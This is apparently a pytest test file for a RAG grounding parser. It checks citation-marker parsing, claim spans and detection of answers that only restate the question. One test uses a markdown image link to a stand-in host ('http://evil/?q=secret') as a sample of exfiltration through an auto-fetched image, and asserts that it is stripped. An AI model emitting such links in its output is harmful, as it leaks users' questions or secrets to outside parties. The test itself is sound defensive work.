"""Drafts to claims: markers, spans, and answers that only repeat their question."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.grounding.claims import parse_draft, repeats_question, strip_markers


def test_markers_become_hints() -> None:
    text, claims = parse_draft("GANs learn [1]. They compete.[2, 3] The end")
    assert text == "GANs learn. They compete. The end"
    assert [(text[slice(*claim.span)], set(claim.hints)) for claim in claims] == [
        ("GANs learn.", {1}),
        ("They compete.", {2, 3}),
        ("The end", set()),
    ]


def test_unfinished_marker_is_hidden() -> None:
    assert strip_markers("GANs learn [1") == "GANs learn"
    assert strip_markers("GANs learn [1]. They") == "GANs learn. They"


def test_images_and_links_are_removed() -> None:
    """A page would fetch an image, and so tell somebody what was asked."""
    text, _ = parse_draft("See ![x](http://evil/?q=secret) the [notes](http://evil) now.")
    assert "evil" not in text
    assert text == "See  the notes now."


@given(st.text(st.sampled_from(list("ab .[]12,\n!()")), max_size=80))
def test_claim_spans_are_exact(draft: str) -> None:
    text, claims = parse_draft(draft)
    position = 0
    for claim in claims:
        start, end = claim.span
        assert position <= start < end <= len(text)
        position = end


@pytest.mark.parametrize(
    ("question", "answer", "expected"),
    [
        ("What answer does it accept?", "The answer it accepts.", True),
        ("What answer does it accept?", "It accepts a string.", False),
        ("Does the owl hunt at night?", "The owl hunts at night.", False),  # that is the answer
        ("What does it accept?", "", True),
        (  # the name of the field is made of words of the question
            "The analysis of an algorithm is assigned to what field?",
            "The analysis of an algorithm is assigned to the field analysis of algorithms.",
            False,
        ),
    ],
)
def test_repeats_question(question: str, answer: str, expected: bool) -> None:
    assert repeats_question(question, answer) is expected
